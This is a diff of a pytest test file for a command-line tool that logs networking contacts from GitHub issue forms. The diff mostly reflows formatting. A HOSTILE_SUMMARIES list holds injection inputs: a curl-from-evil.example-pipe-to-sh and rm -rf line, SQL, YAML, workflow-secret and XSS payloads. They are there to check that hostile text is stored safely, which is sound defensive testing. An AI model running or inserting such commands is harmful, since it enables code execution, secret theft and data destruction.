@@ -31,14 +31,28 @@ OUTCOMES = ("referral", "job_lead", "collaboration", "speaking", "intro_received
 
 
 def body(
-    *, with_: str = "ada-lovelace", kind: str = "coffee", date: str = "", value: str = "",
-    initiated: str = "", summary: str = "", follow_up: str = "", due: str = "",
+    *,
+    with_: str = "ada-lovelace",
+    kind: str = "coffee",
+    date: str = "",
+    value: str = "",
+    initiated: str = "",
+    summary: str = "",
+    follow_up: str = "",
+    due: str = "",
     outcomes: str = "",
 ) -> str:
     """A "Log an interaction" issue body as GitHub renders it."""
-    fields = [("With", with_), ("Kind", kind), ("Date", date), ("Value", value),
-              ("Who reached out", initiated), ("Summary", summary), ("Follow-up", follow_up),
-              ("Follow-up due", due)]
+    fields = [
+        ("With", with_),
+        ("Kind", kind),
+        ("Date", date),
+        ("Value", value),
+        ("Who reached out", initiated),
+        ("Summary", summary),
+        ("Follow-up", follow_up),
+        ("Follow-up due", due),
+    ]
     parts = [f"### {label}\n\n{answer or '_No response_'}" for label, answer in fields]
     ticks = "\n".join(f"- [{'X' if o in outcomes.split(',') else ' '}] {o}" for o in OUTCOMES)
     return "\n\n".join([*parts, f"### Outcomes\n\n{ticks}"])
@@ -52,8 +66,10 @@ def snapshot(root: Path) -> dict[str, bytes]:
 def run(root: Path, text: str, *extra: str) -> Result:
     issue = root.parent / "issue.md"
     issue.write_text(text, encoding="utf-8")
-    return CliRunner().invoke(app, ["log", "--from-issue", str(issue), "--data", str(root),
-                                    "--today", "2026-11-05", *extra])
+    return CliRunner().invoke(
+        app,
+        ["log", "--from-issue", str(issue), "--data", str(root), "--today", "2026-11-05", *extra],
+    )
 
 
 @pytest.fixture
@@ -62,20 +78,35 @@ def root(write_data: WriteData) -> Path:
 
 
 def test_a_form_is_appended_to_the_years_file_and_the_reply_says_so(root: Path) -> None:
-    result = run(root, body(with_="ada-lovelace, Grace Hopper", kind="video", date="2026-11-02",
-                            value="give", initiated="me", summary="Talked about her compiler",
-                            follow_up="Send the MLIR paper", due="2026-11-09",
-                            outcomes="referral"))
+    result = run(
+        root,
+        body(
+            with_="ada-lovelace, Grace Hopper",
+            kind="video",
+            date="2026-11-02",
+            value="give",
+            initiated="me",
+            summary="Talked about her compiler",
+            follow_up="Send the MLIR paper",
+            due="2026-11-09",
+            outcomes="referral",
+        ),
+    )
     assert result.exit_code == 0, result.output
-    assert result.stdout.startswith("Logged a **video** with `ada-lovelace`, `grace-hopper` on "
-                                    "2026-11-02 with a follow-up in `")
+    assert result.stdout.startswith(
+        "Logged a **video** with `ada-lovelace`, `grace-hopper` on 2026-11-02 with a follow-up in `"
+    )
     text = (root / "interactions" / "2026.yml").read_text(encoding="utf-8")
     assert text.startswith(EXISTING)  # comments and layout of what was there are kept
     loaded = load(root)
     assert loaded.ok, loaded.problems
     new = loaded.dataset.interactions[-1]
     assert (new.date, new.with_, new.kind, new.value) == (
-        dt.date(2026, 11, 2), ["ada-lovelace", "grace-hopper"], "video", "give")
+        dt.date(2026, 11, 2),
+        ["ada-lovelace", "grace-hopper"],
+        "video",
+        "give",
+    )
     assert new.outcomes == ["referral"]
     promises = [(f.do, f.due) for f in new.follow_ups]
     assert promises == [("Send the MLIR paper", dt.date(2026, 11, 9))]
@@ -93,7 +124,7 @@ def test_an_empty_date_is_the_pinned_today_and_a_new_year_file_is_made(
 
 HOSTILE_SUMMARIES = [
     "$(curl -s https://evil.example/x | sh) `id` ; rm -rf ~ && echo pwned",
-    "'; DROP TABLE contacts; -- \" \\\" \\n",
+    '\'; DROP TABLE contacts; -- " \\" \\n',
     "ok\n- date: 2020-01-01\n  with: [grace-hopper]\n  kind: gift\nsummary: &a *a",
     "${{ secrets.GITHUB_TOKEN }} ${{ github.event.issue.title }} %0A::set-output name=x::y",
     "@octocat <img src=x onerror=alert(1)> [click](javascript:alert(1)) <!-- hidden -->",
@@ -117,16 +148,19 @@ def test_hostile_text_is_stored_as_text_and_never_echoed(root: Path, summary: st
     assert summary.splitlines()[0] not in result.stdout
 
 
-@pytest.mark.parametrize(("fields", "label", "says"), [
-    ({"date": "2026-02-30"}, "Date", "is not a real date"),
-    ({"date": "5 Nov"}, "Date", "is not a date: write YYYY-MM-DD"),
-    ({"date": "$(date)"}, "Date", "is not a date"),
-    ({"due": "next week", "follow_up": "Call back"}, "Follow-up due", "is not a date"),
-    ({"due": "2026-11-09"}, "Follow-up due", "needs a Follow-up"),
-    ({"kind": "coffe"}, "Kind", "did you mean 'coffee'?"),
-    ({"with_": "nobody-at-all"}, "With", "no contact has this id or name"),
-    ({"with_": ""}, "With", "is required"),
-])
+@pytest.mark.parametrize(
+    ("fields", "label", "says"),
+    [
+        ({"date": "2026-02-30"}, "Date", "is not a real date"),
+        ({"date": "5 Nov"}, "Date", "is not a date: write YYYY-MM-DD"),
+        ({"date": "$(date)"}, "Date", "is not a date"),
+        ({"due": "next week", "follow_up": "Call back"}, "Follow-up due", "is not a date"),
+        ({"due": "2026-11-09"}, "Follow-up due", "needs a Follow-up"),
+        ({"kind": "coffe"}, "Kind", "did you mean 'coffee'?"),
+        ({"with_": "nobody-at-all"}, "With", "no contact has this id or name"),
+        ({"with_": ""}, "With", "is required"),
+    ],
+)
 def test_invalid_input_writes_nothing_and_says_what_is_wrong(
     root: Path, fields: dict[str, str], label: str, says: str
 ) -> None:
